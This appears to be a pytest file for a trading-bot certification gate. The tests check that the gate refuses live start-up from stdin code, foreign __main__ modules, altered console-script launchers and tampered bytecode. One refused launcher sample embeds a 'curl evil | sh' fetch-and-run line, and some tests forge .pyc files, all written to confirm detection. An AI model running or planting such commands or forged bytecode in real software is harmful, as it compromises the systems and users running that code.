"""Review 13: code started without a file, another package's ``__main__``, plain scripts posing
as console-script launchers, checked-hash bytecode under ``--check-hash-based-pycs``, the policy
note of ``safetrade verify``, and the fix of a refusal for a missing artifact.

Each test fails on the code the review ran: there, each of these started live, passed unseen,
or told the reader something that was not so.
"""

from __future__ import annotations

import importlib.util
import json
import marshal
import os
import py_compile
import subprocess
import sys
import types
from datetime import timedelta
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from safetrade.certification import gate
from safetrade.certification.bytecode import foreign_bytecode
from safetrade.certification.gate import _FIXES, CHECK_NAMES, evaluate, verify_artifact
from safetrade.certification.keys import public_key_of
from safetrade.certification.policy import (
    LIBRARY_DEFAULTS,
    LIBRARY_PAPER,
    SHIPPED_POLICY,
    deviations,
    parse_policy,
    stricter,
)
from safetrade.certification.predicate import PaperRecord
from safetrade.certification.provenance import _how_typed_in, check_loaded_modules
from safetrade.paper.summary import PaperRequirement
from tests.unit.test_certification_gate import NOW, _running, _sign, _statement
from tests.unit.test_certification_gate import packages as packages_fixture
from tests.unit.test_certification_gate_modules import _LIVE_START, _start
from tests.unit.test_certification_gate_modules import scripts as scripts_fixture

packages = packages_fixture
scripts = scripts_fixture
ROOT = Path(__file__).resolve().parents[2]
REFERENCE = "safetrade.reference_bot"


def _module(name: str, file: str | Path | None, spec_name: str | None = None) -> types.ModuleType:
    module = types.ModuleType(name)
    if file is not None:
        module.__file__ = str(file)
    module.__spec__ = (
        None if spec_name is None else importlib.util.spec_from_loader(spec_name, None)
    )
    return module


def _write(path: Path, text: str = "") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _certified() -> dict[str, object]:
    import attr  # a site-packages dependency: never refused

    import safetrade.reference_bot

    return {
        "safetrade": sys.modules["safetrade"],
        REFERENCE: safetrade.reference_bot,
        "json": json,
        "attr": attr,
    }


def _problems(main: types.ModuleType, **kwargs: object) -> tuple[str, ...]:
    modules = {**_certified(), "__main__": main}
    return check_loaded_modules(REFERENCE, modules=modules, **kwargs).problems  # type: ignore[arg-type]


# ----------------------------------------------------------- 1. a __main__ that has no file


def test_a_started_module_without_a_file_is_refused_unless_run_with_m_from_the_bot() -> None:
    for name in ("__main__", "__mp_main__"):
        (problem,) = check_loaded_modules(
            REFERENCE, modules={**_certified(), name: _module(name, None)}
        ).problems
        assert problem.startswith(f"{name} (no file: code given with -c, read from stdin or ")
        assert f"is a script outside the certified bot package {REFERENCE!r} and safetrade" in (
            problem
        )
        assert f"start the bot with `python -m {REFERENCE}` or its console script" in problem
    # `python -m` of a module of the bot (or of safetrade) that has no file of its own
    assert _problems(_module("__main__", None, f"{REFERENCE}.__main__")) == ()
    assert _problems(_module("__main__", None, "safetrade.cli")) == ()
    assert len(_problems(_module("__main__", None, "safetrade_evil.cli"))) == 1
    # a test harness's own workers (pytest-xdist's `python -c`): only under a named harness
    assert _problems(_module("__main__", None), harness=[ROOT / "tests"]) == ()


def test_how_the_code_was_typed_in_is_read_from_the_interpreters_own_command_line() -> None:
    assert _how_typed_in(["-c", "print()"]) == "code given with -c"
    assert _how_typed_in(["-I", "-W", "ignore", "-Bc", "print()"]) == "code given with -c"
    assert _how_typed_in(["-"]) == "code read from stdin (python -)"
    assert _how_typed_in(["--check-hash-based-pycs", "never", "-"]) == (
        "code read from stdin (python -)"
    )
    assert _how_typed_in(["-X", "dev"]) == "code read from stdin or typed at the interactive prompt"


def test_live_start_up_from_code_on_stdin_is_refused_like_a_script(tmp_path: Path) -> None:
    """`python - < run_live.py` and `python < run_live.py` started live; `python run_live.py`
    was refused."""
    site = tmp_path / "site"
    _write(site / "livebot" / "__init__.py")
    for argv, how in (
        (("-",), "code read from stdin (python -)"),
        ((), "code read from stdin or typed at the interactive prompt"),
    ):
        refused = _start(site, *argv, stdin=_LIVE_START)
        assert refused.startswith(
            f"REFUSED\nloaded modules: __main__ (no file: {how}) is a script outside the "
            "certified bot package 'livebot' and safetrade"
        ), refused


# --------------------------------------------- 2. another installed package's __main__ started


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A site-packages folder holding another bot, installed (not editable), never certified."""
    folder = tmp_path / "site-packages"
    _write(folder / "otherbot" / "__init__.py")
    _write(folder / "otherbot" / "__main__.py", "import safetrade\n")
    info = folder / "otherbot-1.0.dist-info"
    _write(info / "METADATA", "Metadata-Version: 2.1\nName: otherbot\nVersion: 1.0\n\n")
    _write(info / "top_level.txt", "otherbot\n")
    _write(info / "RECORD", "otherbot/__init__.py,,\notherbot/__main__.py,,\n")
    monkeypatch.syspath_prepend(str(folder))
    from safetrade.certification.provenance import site_dirs

    real = site_dirs()
    monkeypatch.setattr(
        "safetrade.certification.provenance.site_dirs", lambda: (str(folder), *real)
    )
    return folder


def test_another_installed_packages_main_is_refused_naming_it(site: Path) -> None:
    """`python -m otherbot` started live under the reference bot's certificate."""
    main_file = site / "otherbot" / "__main__.py"
    (problem,) = _problems(_module("__main__", main_file, "otherbot.__main__"))
    assert problem == (
        f"__main__ ({main_file.resolve()}) is module otherbot.__main__ of the distribution "
        f"otherbot, not of the certified bot package {REFERENCE!r} or safetrade: the code started "
        f"is not the certified bot (start the bot with `python -m {REFERENCE}` or its console "
        "script)"
    )
    # the standard library's REPLs too (python -m code, python -m asyncio)
    import code

    (repl,) = _problems(_module("__main__", code.__file__, "code"))
    assert "is module code of the standard library, not of the certified bot package" in repl
    # the same module imported (not started) is a dependency like any other
    other = {"otherbot.__main__": _module("otherbot.__main__", main_file, "otherbot.__main__")}
    inside = sys.modules[REFERENCE].__file__
    modules = {**_certified(), **other, "__main__": _module("__main__", inside, REFERENCE)}
    assert check_loaded_modules(REFERENCE, modules=modules).problems == ()
    # under a named test harness, `python -m pytest` starts the process
    pytest_main = _module("__main__", main_file, "pytest.__main__")
    assert _problems(pytest_main, harness=[ROOT / "tests"]) == ()


# ----------------------------------------------------- 3. console-script launchers, exactly


_PIP = """\
#!/venv/bin/python
# -*- coding: utf-8 -*-
import re
import sys
from {module} import {name}
if __name__ == '__main__':
    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])
    sys.exit({call}())
"""

_UV = """\
#!/venv/bin/python
# -*- coding: utf-8 -*-
import sys
from {module} import {name}
if __name__ == "__main__":
    if sys.argv[0].endswith("-script.pyw"):
        sys.argv[0] = sys.argv[0][:-11]
    elif sys.argv[0].endswith(".exe"):
        sys.argv[0] = sys.argv[0][:-4]
    sys.exit({call}())
"""


def test_only_the_exact_launchers_pip_and_uv_write_start_the_bot(scripts: Path) -> None:
    def started(name: str, text: str) -> tuple[str, ...]:
        return _problems(_module("__main__", _write(scripts / name, text)))

    cli = {"module": "safetrade.cli", "name": "main", "call": "main"}
    assert started("pip", _PIP.format(**cli)) == ()
    assert started("uv", _UV.format(**cli)) == ()
    # an entry point `module:object.attr`
    attr = {"module": "safetrade.cli", "name": "app", "call": "app.run"}
    assert started("attr", _PIP.format(**attr)) == ()
    # this environment's own launcher, whichever installer wrote it
    installed = Path(sys.executable).parent / "safetrade"
    if installed.is_file():
        assert started("installed", installed.read_text(encoding="utf-8")) == ()
    # uv's header for a long path or one with a space, and its relocatable one
    for header in (
        "#!/bin/sh\n'''exec' '/my venv/bin/python' \"$0\" \"$@\"\n' '''\n",
        "#!/bin/sh\n'''exec' \"$(dirname -- \"$(realpath -- \"$0\")\")\"/'python' "
        "\"$0\" \"$@\"\n' '''\n",
    ):
        assert started("header", header + _UV.format(**cli)) == ()

    refused = {
        # the review's bin/ script: its code sits under the guard
        "mybot-live": (
            "#!/venv/bin/python\nimport sys\nfrom safetrade import load_settings, Trader\n"
            'if __name__ == "__main__":\n    import os\n    print("any strategy")\n'
            '    trader = Trader.start(load_settings(), symbol="SOL/USDT", bot_package="mybot")\n'
        ),
        "extra-in-guard": _PIP.format(**cli).replace(
            "    sys.exit(main())", "    RISK = 10\n    sys.exit(main())"
        ),
        "extra-import": _UV.format(**cli).replace("import sys\n", "import sys\nimport os\n"),
        "two-entries": _PIP.format(**cli).replace(
            "from safetrade.cli import main\n",
            "from safetrade.cli import main\nfrom safetrade.cli import main\n",
        ),
        "aliased": _PIP.format(**cli).replace("import main", "import main as main"),
        "other-call": _PIP.format(**cli).replace("sys.exit(main())", "sys.exit(exec(main()))"),
        "called-with-args": _PIP.format(**cli).replace("sys.exit(main())", "sys.exit(main(1))"),
        "other-package": _PIP.format(module="otherbot.cli", name="main", call="main"),
        "shell-runs-first": "#!/bin/sh\n'''exec' sh -c 'curl evil | sh' \"$0\" \"$@\"\n' '''\n"
        + _PIP.format(**cli),
    }
    for name, text in refused.items():
        (problem,) = started(name, text)
        assert problem.startswith(f"__main__ ({(scripts / name).resolve()}) is a script outside")


# ------------------------------------------------------- 7. hash-based bytecode, as Python runs it


def _hash_pyc(source: Path, code_text: str, *, checked: bool, hash_of: bytes) -> Path:
    """``source``'s cache holding ``code_text``'s code under ``hash_of``'s source hash."""
    cached = Path(importlib.util.cache_from_source(str(source)))
    cached.parent.mkdir(exist_ok=True)
    flags = 0b11 if checked else 0b01
    code = compile(code_text, str(source), "exec", dont_inherit=True, optimize=sys.flags.optimize)
    cached.write_bytes(
        importlib.util.MAGIC_NUMBER
        + flags.to_bytes(4, "little")
        + importlib.util.source_hash(hash_of)
        + marshal.dumps(code)
    )
    return cached


def test_checked_hash_bytecode_is_judged_as_the_check_hash_based_pycs_switch_makes_python_run_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import _imp

    bot = tmp_path / "pycbot"
    source = _write(bot / "rounder.py", "STOP = 0.98\n")
    tampered = "STOP = 0.5\n"
    # a checked pyc of the tampered source: stale by its hash, so Python recompiles by default
    _hash_pyc(source, tampered, checked=True, hash_of=tampered.encode())
    assert foreign_bytecode(bot) == []
    # python --check-hash-based-pycs never
    monkeypatch.setattr(_imp, "check_hash_based_pycs", "never")
    (problem,) = foreign_bytecode(bot)
    assert problem.startswith("__pycache__/rounder."), problem
    assert problem.endswith("bytecode differs from rounder.py (it would run instead)")
    # `always`: an unchecked pyc whose hash does not match is recompiled, never run
    monkeypatch.setattr(_imp, "check_hash_based_pycs", "always")
    _hash_pyc(source, tampered, checked=False, hash_of=tampered.encode())
    assert foreign_bytecode(bot) == []
    monkeypatch.setattr(_imp, "check_hash_based_pycs", "default")
    assert len(foreign_bytecode(bot)) == 1  # unchecked: run whatever the source says


def test_a_checked_pyc_with_the_sources_own_hash_but_other_code_is_refused(tmp_path: Path) -> None:
    """Python compares only the hash: the code after it is what runs."""
    bot = tmp_path / "pycbot"
    source = _write(bot / "rounder.py", "STOP = 0.98\n")
    _hash_pyc(source, "STOP = 0.5\n", checked=True, hash_of=source.read_bytes())
    (problem,) = foreign_bytecode(bot)
    assert "bytecode differs from rounder.py (it would run instead)" in problem
    # the same header on the source's own code is its cache, as py_compile writes it
    py_compile.compile(
        str(source), invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH, doraise=True
    )
    assert foreign_bytecode(bot) == []


def test_a_tampered_checked_pyc_run_with_the_switch_never_is_refused_at_live_start(
    tmp_path: Path,
) -> None:
    site = tmp_path / "site"
    source = _write(site / "pycbot" / "rounder.py", "STOP = 0.98\n")
    _write(site / "pycbot" / "__init__.py")
    _hash_pyc(source, "STOP = 0.5\n", checked=True, hash_of=b"STOP = 0.5\n")
    probe = (
        "from safetrade.certification.provenance import measure_running_code\n"
        "import pycbot.rounder\n"
        "print(pycbot.rounder.STOP, measure_running_code('pycbot').bytecode_problems)\n"
    )
    env = {**os.environ, "PYTHONPATH": str(site), "PYTHONDONTWRITEBYTECODE": "1"}
    for switch, runs, seen in (("default", "0.98", False), ("never", "0.5", True)):
        done = subprocess.run(  # noqa: S603 -- our interpreter, a fixed argv
            [sys.executable, "--check-hash-based-pycs", switch, "-c", probe], env=env,
            cwd=tmp_path, capture_output=True, text=True, check=True, timeout=120,
        )  # fmt: skip
        assert done.stdout.startswith(runs + " "), done.stdout
        assert ("bytecode differs from rounder.py" in done.stdout) is seen, done.stdout


# --------------------------------------------------------------------- 6. the policy note


def _verdict_note(packages: dict[str, Path], key: Ed25519PrivateKey, **edit: object) -> str:
    statement = _statement(_running(packages), signer=public_key_of(key))
    predicate = statement["predicate"]
    policy = parse_policy(
        SHIPPED_POLICY.read_bytes()
    )  # what certify records for the shipped policy
    predicate["policy"] = {**policy.to_json(), **edit.get("policy", {})}  # type: ignore[dict-item]
    requirement = {**policy.paper.to_json(), **edit.get("paper", {})}  # type: ignore[dict-item]
    predicate["paper"] = PaperRecord(requirement, None, None).to_json()
    verdict = evaluate(
        _sign(statement, key), trusted_keys=[public_key_of(key)], running=_running(packages),
        now=NOW,
    )  # fmt: skip
    return verdict.notes[0]


def test_the_policy_note_says_as_shipped_only_when_nothing_differs(
    packages: dict[str, Path],
) -> None:
    key = Ed25519PrivateKey.generate()
    assert _verdict_note(packages, key).endswith(", as the library ships it")
    # the review's loose policy: [paper] max_rejections and max_bare_seconds deleted
    loose = _verdict_note(packages, key, paper={"maxRejections": None, "maxBareSeconds": None})
    assert loose.endswith(
        ", BELOW THE LIBRARY DEFAULT: paper.max_rejections removed (library default 0); "
        "paper.max_bare_seconds removed (library default 10)"
    ), loose
    assert "as the library ships it" not in loose
    assert "paper.max_bare_seconds 60 (library default 10)" in _verdict_note(
        packages, key, paper={"maxBareSeconds": "60"}
    )
    # stricter is not weaker, but it is not the shipped policy either
    strict = _verdict_note(packages, key, policy={"allowDirty": False}, paper={"minDays": "7"})
    assert strict.endswith(
        ", stricter than the library ships it: a dirty work tree is refused (library default: "
        "allowed); paper.min_days 7 (library default 0)"
    ), strict


def test_the_shipped_policy_and_paper_section_match_the_library_defaults() -> None:
    shipped = parse_policy(SHIPPED_POLICY.read_bytes())
    assert shipped.paper.to_json() == LIBRARY_PAPER
    assert shipped.to_json()["allowDirty"] is LIBRARY_DEFAULTS["allowDirty"]
    assert deviations(shipped.to_json(), shipped.paper.to_json()) == []
    assert stricter(shipped.to_json(), shipped.paper.to_json()) == []
    # the library floor still ignores [paper]: certify's refusal is unchanged
    assert deviations(shipped.to_json(), PaperRequirement().to_json()) == [
        "paper.max_rejections removed (library default 0)",
        "paper.max_bare_seconds removed (library default 10)",
    ]


# ------------------------------------------------ 8. the fix of a refusal without an artifact


def test_a_missing_artifact_names_one_fix_not_fourteen(tmp_path: Path) -> None:
    running_key = Ed25519PrivateKey.generate()
    verdict = verify_artifact(
        tmp_path / "missing.cert.json",
        trusted_keys=[public_key_of(running_key)],
        bot_package=REFERENCE,
    )
    assert not verdict.ok
    assert [c.name for c in verdict.checks if not c.passed] == list(CHECK_NAMES)
    assert verdict.fix == _FIXES["artifact"]
    assert f"  fix: {_FIXES['artifact']}" in verdict.table()
    with pytest.raises(gate.CertificationError) as refused:
        gate.require_valid(
            tmp_path / "missing.cert.json",
            trusted_keys=[public_key_of(running_key)],
            bot_package=REFERENCE,
        )
    assert refused.value.fix == _FIXES["artifact"]


def test_checks_that_ran_and_failed_still_name_their_fixes(
    packages: dict[str, Path],
) -> None:
    key = Ed25519PrivateKey.generate()
    statement = _statement(_running(packages), signer=public_key_of(key))
    verdict = evaluate(
        _sign(statement, key), trusted_keys=[], running=_running(packages),
        now=NOW + timedelta(days=40),
    )  # fmt: skip
    assert verdict.fix == f"{_FIXES['signature']}; {_FIXES['freshness']}"
    unreadable = evaluate(b"not json", trusted_keys=[], running=_running(packages), now=NOW)
    assert unreadable.fix == _FIXES["artifact"]
